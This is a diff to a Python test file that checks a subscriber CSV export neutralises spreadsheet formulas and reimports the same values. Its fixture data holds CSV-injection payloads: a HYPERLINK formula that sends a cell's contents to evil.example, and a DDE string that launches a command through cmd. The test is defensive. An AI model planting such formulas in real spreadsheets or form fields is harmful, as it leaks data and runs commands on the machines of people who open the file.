@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from pathlib import Path
 
@@ -182,3 +183,41 @@ def test_a_zone_folder_name_is_a_bad_row_not_a_crash(db: Database) -> None:
         (3, True),
     ]
     assert [row[0] for row in _snapshot(db)] == ["c@example.com"]
+
+
+FORMULAS = {
+    "f1@example.com": ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', ["@SUM(A1:A9)"]),
+    "f2@example.com": ("+cmd|' /C calc'!A0", ["=1+2", "World"]),
+    "f3@example.com": ("-Ann- the dash", ["-minus"]),
+    "f4@example.com": ("'=already quoted", ["'@quoted"]),
+}
+
+
+def test_export_neutralises_formulas_and_import_reads_them_back(db: Database) -> None:
+    """A name, topic or source from the public form never reaches a spreadsheet as a formula,
+    and what export wrote imports back as the very values stored."""
+    with db.transaction() as s:
+        for email, (name, topics) in FORMULAS.items():
+            sub = store.add(s, email, name=name, topics=topics, confirmed=True)
+            sub.consent_source = "@SUM(1+1)*cmd|' /C calc'!A0"
+        out = io.StringIO()
+        csvio.write_csv(csvio.export_rows(s), out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    by_email = {row[0]: row for row in rows[1:]}
+    assert by_email["f1@example.com"][1] == "'" + FORMULAS["f1@example.com"][0]
+    assert by_email["f4@example.com"][1] == "''=already quoted"
+    assert by_email["f4@example.com"][4] == "''@quoted"
+    assert by_email["f2@example.com"][4] == "'=1+2,World"
+    before = _snapshot(db)
+    with db.transaction() as s:
+        sources = {x.email: x.consent_source for x in store.list_subscribers(s)}
+    with db.engine.begin() as conn:
+        conn.exec_driver_sql("DELETE FROM subscribers")
+    report = _import(db, out.getvalue())
+    assert report.errors == [] and report.added == len(FORMULAS)
+    assert _snapshot(db) == before
+    assert [n for _, n, *_ in before] == [name for name, _ in FORMULAS.values()]
+    with db.transaction() as s:
+        assert {x.email: x.consent_source for x in store.list_subscribers(s)} == sources
